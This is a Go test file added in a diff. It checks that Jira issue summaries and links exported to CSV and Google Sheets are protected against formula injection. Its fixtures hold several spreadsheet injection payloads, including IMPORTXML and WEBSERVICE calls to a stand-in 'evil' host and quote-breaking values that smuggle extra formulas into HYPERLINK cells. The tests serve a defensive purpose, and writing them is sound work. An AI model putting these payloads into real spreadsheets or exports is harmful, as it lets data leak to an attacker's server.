@@ -0,0 +1,111 @@
+package main
+
+import (
+	"bytes"
+	"testing"
+)
+
+var hostileSummaries = []struct {
+	name    string
+	summary string
+	text    string
+	literal string
+}{
+	{"plain", "Add login page", "Add login page", `"Add login page"`},
+	{"empty", "", "", `""`},
+	{"double quotes", `Support "quoted" names`, `Support "quoted" names`, `"Support ""quoted"" names"`},
+	{"unbalanced quote", `Break "here`, `Break "here`, `"Break ""here"`},
+	{"equals", `=IMPORTXML("http://evil","//a")`, `'=IMPORTXML("http://evil","//a")`, `"=IMPORTXML(""http://evil"",""//a"")"`},
+	{"plus", "+1 for this", "'+1 for this", `"+1 for this"`},
+	{"minus", "-2+3", "'-2+3", `"-2+3"`},
+	{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)", `"@SUM(A1:A9)"`},
+	{"tab", "\t=1+1", "'\t=1+1", "\"\t=1+1\""},
+	{"carriage return", "\r=1+1", "'\r=1+1", "\"\r=1+1\""},
+	{"inner trigger", "a=b+c-d@e", "a=b+c-d@e", `"a=b+c-d@e"`},
+}
+
+func TestGoogleSheetText(t *testing.T) {
+	for _, tt := range hostileSummaries {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := googleSheetText(tt.summary); got != tt.text {
+				t.Errorf("googleSheetText(%q) = %q, want %q", tt.summary, got, tt.text)
+			}
+		})
+	}
+}
+
+func TestGoogleSheetString(t *testing.T) {
+	for _, tt := range hostileSummaries {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := googleSheetString(tt.summary); got != tt.literal {
+				t.Errorf("googleSheetString(%q) = %q, want %q", tt.summary, got, tt.literal)
+			}
+		})
+	}
+}
+
+func TestGoogleSheetLink(t *testing.T) {
+	tests := []struct {
+		name string
+		link string
+		text string
+		want string
+	}{
+		{
+			"plain",
+			"https://jira.example.com/browse/PROJ-1",
+			"PROJ-1",
+			`=HYPERLINK("https://jira.example.com/browse/PROJ-1","PROJ-1")`,
+		},
+		{
+			"hostile title",
+			"https://jira.example.com/browse/PROJ-2",
+			`Fix "x"),IMPORTXML("http://evil","//a`,
+			`=HYPERLINK("https://jira.example.com/browse/PROJ-2","Fix ""x""),IMPORTXML(""http://evil"",""//a")`,
+		},
+		{
+			"hostile url",
+			`https://evil.example.com/"),WEBSERVICE("http://evil`,
+			"=1+1",
+			`=HYPERLINK("https://evil.example.com/""),WEBSERVICE(""http://evil","=1+1")`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := googleSheetLink(tt.link, tt.text); got != tt.want {
+				t.Errorf("googleSheetLink(%q, %q) = %q, want %q", tt.link, tt.text, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCSVWriterNeutralizesFormulas(t *testing.T) {
+	for _, tt := range hostileSummaries {
+		t.Run(tt.name, func(t *testing.T) {
+			b := &bytes.Buffer{}
+			w := newCSVWriter(b)
+
+			if err := w.WriteComponent("=Component"); err != nil {
+				t.Fatal(err)
+			}
+
+			if err := w.WriteIssue([]interface{}{tt.summary, Link{"https://jira.example.com/browse/PROJ-1", tt.summary}}); err != nil {
+				t.Fatal(err)
+			}
+
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+
+			want := &bytes.Buffer{}
+			c := newCSVWriter(want)
+			c.w.Write([]string{"'=Component", tt.text, tt.text, "https://jira.example.com/browse/PROJ-1"})
+			c.Close()
+
+			if b.String() != want.String() {
+				t.Errorf("WriteIssue(%q) = %q, want %q", tt.summary, b.String(), want.String())
+			}
+		})
+	}
+}